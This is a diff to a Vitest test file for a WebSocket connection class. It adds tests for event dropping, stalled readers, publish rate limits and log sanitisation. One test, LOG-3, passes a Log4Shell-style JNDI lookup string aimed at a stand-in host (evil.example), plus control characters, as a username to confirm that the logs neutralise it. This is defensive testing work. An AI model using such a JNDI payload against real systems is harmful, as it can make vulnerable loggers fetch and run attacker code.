@@ -13,7 +13,7 @@ afterEach(() => {
   vi.useRealTimers()
 })
 
-function make({ ttlMs = 60_000, early = [] as string[] } = {}) {
+function make({ ttlMs = 60_000, early = [] as string[], username = 'alice' } = {}) {
   const done: string[] = []
   const pings: string[] = []
   const buffer = { bytes: 0 }
@@ -24,7 +24,7 @@ function make({ ttlMs = 60_000, early = [] as string[] } = {}) {
   const connection = new SocketConnection(
     {
       id: 'c1',
-      identity: testIdentity({ ttlMs }),
+      identity: testIdentity({ ttlMs, username }),
       requestId: 'request-1',
       arrivedAtMs: now(),
       authorityFromMs: now(),
@@ -48,6 +48,7 @@ function make({ ttlMs = 60_000, early = [] as string[] } = {}) {
       wallClock: () => new Date(Date.now() + clock.wallLeapMs),
       handle,
       onDead: () => done.push('dead'),
+      onEventDropped: () => done.push('event dropped'),
       onForgotten: (_, code) => done.push(`forgotten ${code}`),
       log: createLog('ws-backend', 'debug', { write: (text) => lines.push(JSON.parse(text)) }),
     },
@@ -172,6 +173,14 @@ describe('a connection', () => {
     expect(ended.handle).toHaveBeenCalledTimes(1)
   })
 
+  it('LOG-3 logs a name that another issuer chose so that no reader of logs obeys it', () => {
+    const { connection, lines } = make({ username: '${jndi:ldap://evil.example/a}\u202e\n' })
+    connection.confirm()
+    expect(lines.map(({ msg }) => msg)).toEqual([
+      'user ?{jndi:ldap://evil.example/a}?? authenticated and connected',
+    ])
+  })
+
   it('RX.11 tries no goodbye behind a long queue', () => {
     const { connection, done, buffer } = make()
     connection.confirm()
@@ -180,12 +189,43 @@ describe('a connection', () => {
     expect(done.slice(3)).toEqual(['dead', 'terminate', 'forgotten 4410'])
   })
 
-  it('RX.11 cuts a slow reader instead of queueing more', () => {
+  it('LIM-4 drops events for a reader that is too far behind, answers it, and goes on when it has read', () => {
     const { connection, done, buffer } = make()
     connection.confirm()
     buffer.bytes = defaultLimits.maxBufferedBytes + 1
-    connection.send('{"type":"event"}')
-    expect(done.slice(3)).toEqual(['dead', 'terminate', 'forgotten 4508'])
+    connection.sendEvent('{"type":"event"}')
+    connection.send('{"type":"ack"}')
+    buffer.bytes = 0
+    connection.sendEvent('{"type":"event"}')
+    expect(done.slice(3)).toEqual(['event dropped', 'send ack', 'send event'])
+  })
+
+  it('RX.11 LIM-4 cuts a reader that has read nothing for too long, at whatever is sent next', () => {
+    for (const send of ['send', 'sendEvent'] as const) {
+      const { connection, done, buffer } = make()
+      connection.confirm()
+      buffer.bytes = defaultLimits.maxBufferedBytes + 1
+      connection.sendEvent('{"type":"event"}')
+      vi.advanceTimersByTime(defaultLimits.maxStalledMs)
+      connection[send]('{"type":"hb"}')
+      expect(done.slice(3)).toEqual(['event dropped', 'dead', 'terminate', 'forgotten 4508'])
+    }
+  })
+
+  it('LIM-3 ends with 4429 when it goes on publishing more than it may', () => {
+    const { connection, done } = make()
+    connection.confirm()
+    const { publishBurstBytes, maxRefusals } = defaultLimits
+    expect(connection.mayPublish(publishBurstBytes)).toBe(true)
+    for (let n = 0; n < maxRefusals; n += 1) {
+      expect(connection.isLive()).toBe(true)
+      expect(connection.mayPublish(1000)).toBe(false)
+    }
+    expect(done).toContain('close 4429')
+  })
+
+  it('LIM-4 lets one socket publish less at once than a reader may leave unread', () => {
+    expect(2 * defaultLimits.publishBurstBytes).toBeLessThan(defaultLimits.maxBufferedBytes)
   })
 
   it('stays as long as pongs come', () => {
